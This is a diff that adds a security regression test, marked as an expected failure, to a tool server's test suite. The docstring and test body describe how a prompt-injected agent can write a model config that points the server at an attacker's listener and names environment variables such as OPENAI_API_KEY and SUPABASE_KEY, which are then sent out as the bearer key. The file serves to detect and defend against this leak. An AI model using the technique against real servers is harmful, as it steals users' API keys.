@@ -318,3 +318,29 @@ async def test_check_database_hands_no_secret_to_a_url_the_client_names(
         client, "check_database", {"url": str(outside)}, "outside the server's roots"
     )
     assert SECRET.replace("-", "_") not in message
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="open hole, left for the lead: a model config the client names (a file under the "
+    "roots, or a preset naming one) picks both the endpoint and the environment variable whose "
+    "value is sent to it as the API key",
+)
+async def test_a_model_config_the_client_names_sends_no_key_where_it_points(
+    client: Client, layout: dict[str, Path], listener: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A prompt-injected agent writes a model config into the project (a root) that points
+    every role at a listener of the attacker's, with `api_key_env` naming any variable of the
+    server's environment, and starts an optimization with it: the LLM check before the job
+    sends that variable's value as the bearer key. check_database keeps SUPABASE_KEY to its
+    project; an LLM key should likewise go only where the server's user configured it."""
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+    monkeypatch.setenv("SUPABASE_KEY", SECRET)
+    task, kernel = str(layout["root"] / "task.json"), str(layout["root"] / "kernel.json")
+    for variable in ("OPENAI_API_KEY", "SUPABASE_KEY"):
+        config = layout["root"] / f"models-{variable}.json"
+        endpoint = {"base_url": f"{listener}/v1", "api_key_env": variable}
+        config.write_text(json.dumps({"default": endpoint}))
+        args = {"task_path": task, "kernel_path": kernel, "models_config": str(config)}
+        await client.call_tool("start_optimization", args)
+    assert not any(SECRET in headers for headers in _HeaderLog.seen), _HeaderLog.seen
